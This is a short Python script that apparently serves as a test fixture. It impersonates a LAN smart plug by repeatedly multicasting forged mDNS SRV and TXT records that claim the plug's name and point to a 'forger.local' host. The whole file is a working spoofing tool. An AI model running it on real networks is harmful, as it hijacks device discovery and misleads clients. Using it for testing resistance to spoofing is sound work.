"""An unpaired host that announces a plug's name as its own; runs inside a host of the LAN.

forge_program.py TYPE NAME ADDRESS COUNT PAUSE    multicasts COUNT times, PAUSE seconds apart, false SRV and TXT records of
                                                  NAME from the interface with ADDRESS; then prints {"sent": COUNT}
"""

import json
import socket
import sys
import time

from zeroconf import DNSOutgoing, DNSService, DNSText
from zeroconf.const import _CLASS_IN, _CLASS_UNIQUE, _FLAGS_AA, _FLAGS_QR_RESPONSE, _TYPE_SRV, _TYPE_TXT

service_type, name, address, count, pause = sys.argv[1:]
full, unique = f"{name}.{service_type}.local.", _CLASS_IN | _CLASS_UNIQUE
answer = DNSOutgoing(_FLAGS_QR_RESPONSE | _FLAGS_AA)
answer.add_answer_at_time(DNSService(full, _TYPE_SRV, unique, 120, 0, 0, 9, "forger.local."), 0)
answer.add_answer_at_time(DNSText(full, _TYPE_TXT, unique, 4500, b"\x0fid=cccccccccccc"), 0)
(packet,) = answer.packets()

stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
stream.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
stream.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
stream.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
stream.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
stream.bind(("", 5353))
for _ in range(int(count)):
    stream.sendto(packet, ("224.0.0.251", 5353))
    time.sleep(float(pause))
print(json.dumps({"sent": int(count)}), flush=True)
